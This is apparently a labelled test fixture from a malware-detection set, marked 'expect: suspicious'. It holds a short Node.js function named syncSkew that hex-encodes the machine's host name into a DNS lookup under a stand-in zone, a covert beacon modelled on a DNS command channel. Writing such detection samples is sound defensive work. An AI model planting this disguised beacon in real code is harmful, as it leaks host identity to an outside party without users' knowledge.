// expect: suspicious
// source: blind set 33's dns-address-record-stager (Saitama's DNS channel, in Babel output): a function the application
// calls spells the host name in hex into the labels of a query under the package's zone.
'use strict';
const dns = require('dns');
const os = require('os');
const ZONE = 't.netready.example';
exports.syncSkew = function syncSkew(cb) {
  const id = Buffer.from(os.hostname()).toString('hex').slice(0, 12);
  dns.resolve4(`0.${id}.${ZONE}`, (err, addrs) => cb(err ? [] : addrs));
};
